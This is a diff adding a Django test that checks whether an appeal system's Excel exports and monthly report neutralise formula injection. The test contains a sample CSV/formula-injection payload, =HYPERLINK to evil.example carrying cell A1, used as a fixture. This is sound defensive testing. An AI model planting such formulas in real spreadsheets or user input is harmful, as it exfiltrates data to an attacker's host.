@@ -109,3 +109,28 @@ def test_monthly_report_as_excel_and_pdf(client, people, world):  # noqa: F811
         pytest.skip("pdftotext not installed (poppler-utils)")
     assert "月度报告" in text and "满意度" in text
     assert client.get(reverse("stats_report"), {"month": "2026-13"}).status_code == 404
+
+
+def test_no_export_turns_user_text_into_a_formula(client, people, county, file):  # noqa: F811
+    """Issue 11, item 3: the list export and the monthly report write user text as text."""
+    import zipfile
+
+    from django.utils import timezone
+
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    appeal = file(content=attack + " 村里路灯坏了")
+    county.units.housing.name = "=1+1"  # an administrator's typo or worse
+    county.units.housing.save()
+    actions.dispatch_appeal(appeal, county.units.housing, acting_user=people.dispatcher)
+    login(client, people.county_leader)
+    exports = [
+        client.get(reverse("stats_export"), {"metric": "received", "to": "2100-01-01"}),
+        client.get(
+            reverse("stats_report"), {"month": f"{timezone.localdate():%Y-%m}", "format": "xlsx"}
+        ),
+    ]
+    for response in exports:
+        data = b"".join(response.streaming_content)
+        with zipfile.ZipFile(io.BytesIO(data)) as z:
+            sheets = [z.read(n).decode() for n in z.namelist() if "worksheets/sheet" in n]
+        assert sheets and all("<f>" not in s for s in sheets)
